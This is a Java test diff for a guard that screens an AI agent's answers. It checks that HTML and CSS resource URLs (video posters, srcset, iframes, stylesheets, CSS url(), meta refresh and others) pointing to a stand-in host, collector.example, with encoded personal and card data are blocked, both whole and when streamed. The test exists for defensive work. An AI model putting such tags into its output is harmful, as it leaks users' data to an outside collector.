@@ -445,6 +445,49 @@ class AgentPresetTest {
     }
 
     @Test
+    void urlsOfOtherTagsFetchedAsThePageRendersAreImagesTooBlockingAndStreamed() {
+        // only <img> and markdown images were read as fetched without a click: a poster, a srcset, a frame, a
+        // stylesheet, a CSS url(...) carried the data out unexamined
+        String u = "https://collector.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ";
+        String longAlt = " title=\"" + "a quiet lake at dawn ".repeat(60) + "\"";
+        for (String answer : List.of(
+                "Watch: <video controls poster=\"" + u + "\"></video>",
+                "<picture><source srcset=\"" + u + " 2x\"><img src=\"https://cdn.example.com/a.png\"></picture>",
+                "<input type=\"image\" src=\"" + u + "\">",
+                "<iframe" + longAlt + " src=\"" + u + "\"></iframe>",
+                "<link rel=\"stylesheet\" href=\"" + u + "\">",
+                "<audio src='" + u + "'></audio>",
+                "<table background=\"" + u + "\"><tr><td>x</td></tr></table>",
+                "<svg><use href=\"" + u + "#icon\"/></svg>",
+                "<object data=\"" + u + "\"></object>",
+                "<EMBED SRC=" + u + ">",
+                "<meta http-equiv=\"refresh\" content=\"0;url=" + u + "\">",
+                "<div style=\"background:url('" + u + "')\">Report</div>",
+                "<style>body { background: url(" + u + ") }</style>",
+                "<p style=\"background-image: URL( \"" + u + "\" )\">x</p>")) {
+            assertAnswerBlockedAsExfiltration(answer);
+            for (int size : new int[] {1, 7, 64}) {
+                StreamOutcome out = stream(answer, size);
+                assertThat(out.blocked()).as("%s in chunks of %d", answer, size).isNotNull();
+                assertThat(out.received())
+                        .as("%s in chunks of %d", answer, size)
+                        .doesNotContain("d=QWxp");
+            }
+        }
+        // media from plain URLs, generics and table cells pass as they are
+        for (String answer : List.of(
+                "<video src=\"https://cdn.example.com/v.mp4\" poster=\"https://cdn.example.com/p.png\"></video>",
+                "Use a List<Object> or a Map<String, Table> here; <td>cell</td> and <th>head</th>.",
+                "The <link> element and <input> fields are described at https://developer.example.org/docs/link.",
+                "See url(https://cdn.example.com/bg.png) in the stylesheet.")) {
+            assertAnswerPasses(answer);
+            StreamOutcome out = stream(answer, 5);
+            assertThat(out.blocked()).as(answer).isNull();
+            assertThat(out.received()).isEqualTo(answer);
+        }
+    }
+
+    @Test
     void aJsonStreamJudgesImagesAndDefinitionsInItsDecodedValuesAsAWholeAnswerDoes() {
         // a JSON answer's values are read decoded (a line break written \n, an image written \u0021[): the guard
         // remembered no definition released in a JSON window (definition first, image later passed streamed, even
